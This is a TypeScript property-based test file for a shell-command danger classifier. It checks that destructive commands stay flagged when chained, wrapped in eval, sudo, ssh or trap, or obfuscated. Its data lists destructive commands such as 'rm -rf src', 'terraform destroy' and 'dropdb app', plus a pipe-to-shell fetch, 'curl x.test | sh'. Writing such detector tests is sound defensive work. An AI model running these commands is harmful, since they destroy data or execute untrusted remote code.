import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { dangerOf, worstDanger } from '../../../src/core/danger.ts';
import { LIMITS } from '../../../src/core/limits.ts';
import { unknown } from '../../../src/core/tri.ts';
import { makeShellReader } from '../../../src/languages/shell/read-shell.ts';
import { fuzzShell, readCorpus } from '../../fuzz/shell-fuzz.ts';
import { loadPrograms } from '../../program-parser.ts';

await loadPrograms();

const read = makeShellReader({});
const context = { workspace: '', cwd: '', fact: () => unknown('judged by text alone') };
const judge = (text: string): ReturnType<typeof read> =>
  read({ kind: 'shell', bytes: new TextEncoder().encode(text) }, context);

const DESTRUCTIVE = [
  'rm -rf src',
  'git reset --hard',
  'git push -f origin main',
  'bash -c "rm -rf src"',
  'find . -name "*.ts" -delete',
  'truncate -s 0 app.db',
  'X=rm; $X -rf src',
  'cat a | xargs rm',
  '(cd src && rm -rf .)',
  'curl x.test | sh',
  'terraform destroy',
];
const NEUTRAL = [
  'ls -la',
  'echo hello',
  'pwd',
  'true',
  'cat README.md',
  'git status',
  'test -f a',
  ': # nothing',
  'date',
];
const JOINTS = ['; ', ' && ', ' || ', '\n', ' & '];

test('a harmless sibling, comment or redirection never makes a destructive command less strict', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...DESTRUCTIVE),
      fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }),
      fc.array(fc.constantFrom(...NEUTRAL), { maxLength: 4 }),
      fc.constantFrom(...JOINTS),
      fc.constantFrom('', ' # a comment', ' > /dev/null', ' 2>&1', ' 2> err.log'),
      (bad, before, after, joint, tail) => {
        const glue =
          before.includes(': # nothing') || after.includes(': # nothing') || tail.includes('#') ? '\n' : joint;
        const text = [...before, bad + tail, ...after].join(glue);
        assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
      },
    ),
    { numRuns: 500 },
  );
});

test('what wraps a destructive command does not hide it', () => {
  const wraps: readonly ((text: string) => string)[] = [
    (text) => `sudo ${text}`,
    (text) => `bash -c '${text}'`,
    (text) => `( ${text} )`,
    (text) => `{ ${text}; }`,
    (text) => `if true; then ${text}; fi`,
    (text) => `eval '${text}'`,
    (text) => `timeout 5 ${text}`,
    (text) => `f() { ${text}; }; f`,
    (text) => `echo "$(: ; ${text})"`,
    (text) => `nohup ${text} &`,
    (text) => `ssh host '${text}'`,
    (text) => `trap '${text}' EXIT`,
  ];
  fc.assert(
    fc.property(
      fc.constantFrom('rm -rf src', 'git reset --hard', 'terraform destroy', 'dropdb app'),
      fc.array(fc.constantFrom(...wraps), { maxLength: 1 }),
      fc.constantFrom(...wraps),
      (bad, more, last) => {
        const text = [...more.filter(() => !last('x').includes("'")), last].reduce<string>(
          (inner, wrap) => wrap(inner),
          bad,
        );
        assert.notEqual(worstDanger(judge(text).effects), 'harmless', text);
      },
    ),
    { numRuns: 300 },
  );
});

test('the stored inputs of the fuzz target, the scenarios, and 2,000 mutated ones: no exception, within limits, never looser', () => {
  assert.ok(readCorpus().compared > 1_000);
  assert.ok(fuzzShell(1_000_000, 2_000).compared > 1_000);
});

test('too long, too deep and not text hold at once and say why', () => {
  for (const [text, why] of [
    ['a'.repeat(LIMITS.commandBytes + 1), /longer than/],
    [`${'('.repeat(5000)}rm x${')'.repeat(5000)}`, /deep/],
    [`${'$('.repeat(3000)}rm${')'.repeat(3000)}`, /deep/],
  ] as const) {
    const { effects } = judge(text);
    assert.equal(
      effects.some((effect) => dangerOf(effect) === 'opaque' && why.test(effect.summary)),
      true,
      String(why),
    );
  }
  const { effects } = read({ kind: 'shell', bytes: new Uint8Array([0x6c, 0x73, 0xff]) }, context);
  assert.equal(worstDanger(effects), 'opaque');
});

test('spans point at the command in the text', () => {
  const text = 'echo hi && rm -rf src';
  const effect = judge(text).effects.find((one) => one.verb === 'destroy');
  assert.deepEqual(effect?.span, [11, 21]);
});
